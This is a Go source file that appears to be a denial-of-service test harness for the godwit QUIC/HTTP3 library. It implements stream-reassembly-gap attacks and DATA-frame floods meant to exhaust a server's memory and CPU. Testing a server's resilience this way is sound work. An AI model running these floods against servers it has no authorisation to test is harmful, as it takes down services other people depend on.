package attack

import (
	"github.com/godwit-quic/godwit/internal/h3"
	"github.com/godwit-quic/godwit/internal/wire"
)

var streamRows = []Row{
	{Name: "stream-gaps", Class: "Reassembly gaps", run: streamGaps,
		Does: "sends one-byte frames with a gap between any two on 256 streams"},
	{Name: "stream-blocks", Class: "Reassembly gaps", run: streamBlocks,
		Does: "sends one byte in each 4 KiB of every stream's window, on 10 connections"},
	{Name: "tiny-data", Class: "frame flood", run: tinyData(false),
		Does: "sends content in DATA frames of one byte"},
	{Name: "empty-data", Class: "frame flood", run: tinyData(true),
		Does: "sends DATA frames and unknown frames without a byte"},
}

func streamGaps(a *attacker) error {
	c, err := a.dial(dialing{})
	if err != nil {
		return err
	}
	n := int(c.maxStreams[0])
	a.begun()
	i := 0
	a.eachConn(50_000, []*conn{c}, func(c *conn) bool {
		b := c.payload[:0]
		for ; len(b) < maxPayload-16; i++ {
			id := wire.NewStreamID(wire.ClientSide, false, uint64(i%n))
			b = wire.AppendStream(b, wire.Stream{ID: id, Offset: uint64(i/n*2+1) % 200_000, Data: []byte("x")})
		}
		c.payload = b
		c.send(b)
		return true
	})
	a.notef("%d streams; %s", n, ends([]*conn{c}))
	return nil
}

func streamBlocks(a *attacker) error {
	conns, err := a.dialMany(10, dialing{})
	if err != nil {
		return err
	}
	a.begun()
	next := make(map[*conn]int) // the block to touch
	a.eachConn(20_000, conns, func(c *conn) bool {
		b := c.payload[:0]
		for len(b) < maxPayload-16 {
			const block = 4 << 10
			streams := int(c.maxStreams[0])
			id := wire.NewStreamID(wire.ClientSide, false, uint64(next[c]%streams))
			off := uint64(next[c]/streams*block + 1)
			if off >= c.peer.InitialMaxStreamDataBidiRemote || c.sentData+block > c.maxData {
				break
			}
			next[c]++
			c.sentData += block // what a stream's highest offset rises by, at most
			b = wire.AppendStream(b, wire.Stream{ID: id, Offset: off, Data: []byte("x")})
		}
		if len(b) == 0 {
			b = wire.AppendPing(b)
		}
		c.payload = b
		c.send(b)
		return true
	})
	a.notef("%s", ends(conns))
	return nil
}

// tinyData sends content that is nearly all frame headers.
func tinyData(empty bool) func(a *attacker) error {
	return func(a *attacker) error {
		c, err := a.dial(dialing{})
		if err != nil {
			return err
		}
		var content []byte
		for len(content) < maxPayload-streamHeader-4 {
			if empty {
				content = append(content, frame(h3.FrameData, nil)...)
				content = append(content, frame(0x21, nil)...) // reserved, to be ignored (RFC 9114, Section 7.2.8)
			} else {
				content = append(content, frame(h3.FrameData, []byte("x"))...)
			}
		}
		a.begun()
		c.window = 512
		var s *stream
		packets := 0
		a.eachConn(50_000, []*conn{c}, func(c *conn) bool {
			if s == nil || s.off > c.peer.InitialMaxStreamDataBidiRemote {
				if s != nil {
					s.write(nil, true)
				}
				next, ok := c.open(false)
				if !ok {
					return true // until the server allows another
				}
				s = next
				s.write(postRequest("/digest"), false)
			}
			if s.room(len(content)) {
				s.write(content, false)
				packets++
			}
			return true
		})
		a.notef("%d packets; %s", packets, ends([]*conn{c}))
		return nil
	}
}
